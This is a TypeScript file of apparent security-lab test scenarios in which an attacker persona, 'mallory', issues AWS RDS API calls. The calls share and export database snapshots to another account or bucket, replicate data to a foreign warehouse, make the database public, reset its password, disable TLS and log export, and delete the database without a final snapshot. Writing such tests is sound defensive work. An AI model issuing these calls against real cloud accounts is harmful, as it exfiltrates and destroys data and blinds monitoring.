import type { LabClient } from "./lab-client.ts";
import type { Scenario } from "./scenario.ts";

const OTHER_ACCOUNT = "444455556666";
const SNAPSHOT = "before-migration";

/** Returns a scenario in which the attacker calls RDS. */
function rds(
  description: string,
  operation: string,
  input: (lab: LabClient) => Readonly<Record<string, string>>,
): Scenario {
  return {
    description: `mallory ${description}`,
    kind: "live",
    run: (lab) => lab.attacker.query("rds", operation, input(lab)),
  };
}

const instance = ({ scope }: LabClient) => `${scope.namePrefix}database`;

const onInstance =
  (input: Readonly<Record<string, string>>) =>
  (lab: LabClient): Readonly<Record<string, string>> => ({
    DBInstanceIdentifier: instance(lab),
    ...input,
  });

export const databaseCopyScenarios: readonly Scenario[] = [
  rds(
    "creates a snapshot of the database",
    "CreateDBSnapshot",
    onInstance({ DBSnapshotIdentifier: SNAPSHOT }),
  ),
  rds("shares a snapshot with another account", "ModifyDBSnapshotAttribute", () => ({
    DBSnapshotIdentifier: SNAPSHOT,
    AttributeName: "restore",
    "ValuesToAdd.AttributeValue.1": OTHER_ACCOUNT,
  })),
  rds("copies a snapshot", "CopyDBSnapshot", () => ({
    SourceDBSnapshotIdentifier: SNAPSHOT,
    TargetDBSnapshotIdentifier: "copy",
  })),
  rds("exports a snapshot to a bucket", "StartExportTask", ({ scope, region }) => ({
    ExportTaskIdentifier: "export",
    SourceArn: `arn:aws:rds:${region}:${scope.accountId}:snapshot:${SNAPSHOT}`,
    S3BucketName: "mallory",
    IamRoleArn: `arn:aws:iam::${scope.accountId}:role/export`,
    KmsKeyId: scope.topicKeyArn ?? scope.keyArn,
  })),
  rds("replicates the database to a data warehouse", "CreateIntegration", (lab) => ({
    SourceArn: `arn:aws:rds:${lab.region}:${lab.scope.accountId}:db:${instance(lab)}`,
    TargetArn: `arn:aws:redshift-serverless:${lab.region}:${OTHER_ACCOUNT}:namespace/mallory`,
    IntegrationName: "mallory",
  })),
  rds("restores a snapshot", "RestoreDBInstanceFromDBSnapshot", () => ({
    DBInstanceIdentifier: "restored",
    DBSnapshotIdentifier: SNAPSHOT,
  })),
];

export const databaseChangeScenarios: readonly Scenario[] = [
  rds("makes the database public", "ModifyDBInstance", onInstance({ PubliclyAccessible: "true" })),
  rds(
    "resets the master password",
    "ModifyDBInstance",
    onInstance({ MasterUserPassword: "correct-horse", ManageMasterUserPassword: "false" }),
  ),
  rds(
    "turns off the deletion protection",
    "ModifyDBInstance",
    onInstance({ DeletionProtection: "false" }),
  ),
  rds(
    "replaces the database's security groups",
    "ModifyDBInstance",
    onInstance({ "VpcSecurityGroupIds.VpcSecurityGroupId.1": "sg-0a1b2c3d4e5f60718" }),
  ),
  rds("changes the parameter group", "ModifyDBParameterGroup", (lab) => ({
    DBParameterGroupName: `${instance(lab)}-postgres18`,
    "Parameters.Parameter.1.ParameterName": "rds.force_ssl",
    "Parameters.Parameter.1.ParameterValue": "0",
    "Parameters.Parameter.1.ApplyMethod": "immediate",
  })),
  rds(
    "stops exporting the database's log",
    "ModifyDBInstance",
    onInstance({
      "CloudwatchLogsExportConfiguration.DisableLogTypes.member.1": "postgresql",
    }),
  ),
  rds("connects a proxy of her own to the database", "RegisterDBProxyTargets", (lab) => ({
    DBProxyName: "mallory",
    "DBInstanceIdentifiers.member.1": instance(lab),
  })),
  rds("deletes a snapshot", "DeleteDBSnapshot", () => ({ DBSnapshotIdentifier: SNAPSHOT })),
  rds("deletes the database", "DeleteDBInstance", onInstance({ SkipFinalSnapshot: "true" })),
];
